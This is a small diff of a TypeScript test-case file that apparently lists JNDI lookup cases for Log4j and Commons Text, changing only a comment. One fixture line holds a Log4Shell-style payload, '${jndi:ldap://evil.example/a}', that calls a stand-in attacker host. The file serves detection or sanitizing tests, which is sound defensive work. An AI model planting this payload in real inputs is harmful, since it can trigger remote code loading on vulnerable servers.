@@ -1,6 +1,6 @@
 import type { FamilyCases } from "./mod.ts";
 
-/** jndi: look-ups of Log4j and Commons Text; hand-written. */
+/** Cases of the family `jndi`: look-ups of Log4j and Commons Text. */
 export const cases: FamilyCases = {
   pairs: [
     ["${jndi:ldap://evil.example/a}", "${name}"],
